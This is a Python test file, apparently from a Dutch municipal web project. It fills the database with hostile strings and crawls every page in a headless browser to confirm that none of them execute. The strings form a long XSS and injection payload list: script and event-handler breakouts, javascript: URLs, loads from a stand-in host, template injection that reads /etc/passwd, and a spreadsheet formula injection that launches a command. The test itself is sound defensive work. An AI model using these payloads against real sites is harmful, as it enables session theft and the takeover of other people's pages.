"""Web: whatever stands in a name, a paper, an answer or a search is shown as words: nothing runs, nothing loads.

Every text of the demo gets hostile words behind it; then every page is opened in Chromium, under our own headers.
"""

from collections.abc import Iterator
from itertools import cycle
from urllib.parse import quote

import pytest
import sqlalchemy as sa
from playwright.sync_api import Browser, Page

from tests.told import Told
from tests.web.browser import Browser as Client
from tests.web.watched_page import HOW_IT_RUNS, watched_page
from woordhouder.accounts.membership import Role
from woordhouder.kit.database import Base

_RUN = "window.ran=1"
_EVENTS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart")
_TAGS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</script><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "<script src=//kwaad.example/x.js></script>",
    "<script src=data:text/javascript,{run}></script>",
    "<img src=x onerror={run}>",
    "<img src=//kwaad.example/x.png>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x>",
    "<math><mi xlink:href=javascript:{run}>x</mi></math>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<object data=//kwaad.example/x></object>",
    "<embed src=//kwaad.example/x>",
    "<link rel=stylesheet href=//kwaad.example/x.css>",
    "<style>@import '//kwaad.example/x.css'</style>",
    "<style>body{{background:url(//kwaad.example/x)}}</style>",
    "<base href=//kwaad.example/>",
    "<meta http-equiv=refresh content='0;url=//kwaad.example/'>",
    "<form action=//kwaad.example/><button autofocus>x</button></form>",
    "<a href=javascript:{run} autofocus>x</a>",
    "<details open ontoggle={run}><summary>x</summary></details>",
    "<video src=//kwaad.example/x autoplay></video>",
    "<audio src=//kwaad.example/x autoplay></audio>",
    "<body onload={run}>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<xmp><script>{run}</script></xmp>",
    "{{{{ 7*7 }}}}",
    "{{% include '/etc/passwd' %}}",
    "${{{{7*7}}}}",
    "%(name)s %s {{0}}",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%3Cscript%3E{run}%3C/script%3E",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "\u202e<script>{run}</script>",
    "=cmd|' /C calc'!A0",
)
_IN_ATTRIBUTES = tuple(
    f"{mark} {event}={_RUN} x={mark}" for event in _EVENTS for mark in ("'", '"', "'>", '">', "` ")
)
_ADDRESSES = (
    f"javascript:{_RUN}//",
    f"JaVaScRiPt:{_RUN}//",
    f"data:text/html,<script>{_RUN}</script>",
    "//kwaad.example/",
)
HOSTILE = tuple(tag.format(run=_RUN) for tag in _TAGS) + _IN_ATTRIBUTES + _ADDRESSES
# What is a key and not words: changed, nothing would be found any more.
_KEYS = {"slug", "sha256", "nis_code", "envelope_id", "recipient", "mail_key", "period", "media_type", "language"}
_KEY_ENDS = ("_hash", "_key", "uri", "kind", "state", "platform", "job", "province")
_FIRST_ROWS = 300
_MOST_OF_A_SHAPE = 1


def poison(told: Told) -> int:
    """Put hostile words behind every text in the database; return how many texts were changed."""
    count, words = 0, cycle(HOSTILE)
    with told.house.site.writing.begin() as session:
        session.execute(sa.text("PRAGMA ignore_check_constraints=ON"))
        for table in Base.metadata.sorted_tables:
            for column in _texts(table):
                for row in session.execute(sa.select(*table.primary_key).limit(_FIRST_ROWS)).all():
                    own = sa.and_(*(key == value for key, value in zip(table.primary_key, row, strict=True)))
                    word = next(words)
                    text = word if column.name == "evidence_address" else sa.func.coalesce(column, "") + " " + word
                    session.execute(sa.update(table).where(own, column.is_not(None)).values({column.name: text}))
                    count += 1
    return count


def _texts(table: sa.Table) -> list["sa.Column[str]"]:
    plain = [c for c in table.columns if type(c.type) in (sa.String, sa.Text) and not c.primary_key]
    return [c for c in plain if c.name not in _KEYS and not c.name.endswith(_KEY_ENDS)]


# What a browser makes of words does not depend on the database.
@pytest.mark.parametrize("told", ["sqlite"], indirect=True)
def test_a_hundred_hostile_words_stay_words_on_every_page(told: Told, browser: Browser) -> None:
    assert len(set(HOSTILE)) >= 80
    assert poison(told) > 1000
    with told.house.stranger() as stranger, told.house.staff(Role.ADMIN) as admin:
        searches = [f"/gemeenten?zoek={quote(' '.join(HOSTILE[place::4]))}" for place in range(4)]
        public = ["/", "/en/", f"/a/{told.answer_token}", f"/u/{told.opt_out_token}", *searches]
        seen = _visit_all(browser, stranger, public, "/staff")
        seen |= _visit_all(browser, admin, ["/staff"], "")
    assert len(seen) > 40, sorted(seen)


def _visit_all(browser: Browser, client: Client, begin: list[str], but: str) -> set[str]:
    waiting, seen, shapes = list(begin), set(), dict[str, int]()
    page, bad = watched_page(browser, client)
    while waiting:
        address = waiting.pop()
        shape = address if address in begin else "".join("0" if sign.isdigit() else sign for sign in address)[:24]
        if address.partition("?")[0].endswith((".ics", ".atom", "pdf")):
            continue  # A browser saves these, or shows them with a program of its own.
        if address in seen or shapes.get(shape, 0) >= _MOST_OF_A_SHAPE or (but and address.startswith(but)):
            continue
        shapes[shape] = shapes.get(shape, 0) + 1
        seen.add(address)
        page.goto(f"http://127.0.0.1:8000{address}")
        bad += _found(page, address)
        waiting += _links(page)
    page.close()
    assert bad == []
    return seen


def _found(page: Page, address: str) -> list[str]:
    return [f"{address}: {what}" for what in page.evaluate(HOW_IT_RUNS)]


def _links(page: Page) -> Iterator[str]:
    found: list[str] = page.eval_on_selector_all("a[href]", "all => all.map(a => a.getAttribute('href'))")
    for link in found:
        path = link.partition("#")[0]
        is_page = path.startswith("/") and not path.startswith("//") and not path.endswith(("/bytes", "/eml"))
        # The other 285 municipalities have one and the same empty page.
        if is_page and ("/gemeente/" not in path or "voorbeeldgem" in path):
            yield path
